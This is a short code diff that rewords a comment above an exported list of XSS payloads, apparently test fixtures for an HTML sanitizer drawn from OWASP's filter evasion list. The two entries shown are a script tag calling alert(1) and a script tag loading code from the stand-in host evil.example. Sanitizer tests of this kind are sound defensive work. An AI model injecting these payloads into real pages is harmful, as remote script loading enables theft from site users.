@@ -1,4 +1,4 @@
-/** After OWASP's XSS filter evasion list and published mutation attacks: each would call alert() where it got through. */
+/** From the XSS filter evasion list of OWASP and published mutation attacks: each one calls alert() if it gets through. */
 export const hostileHtml = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
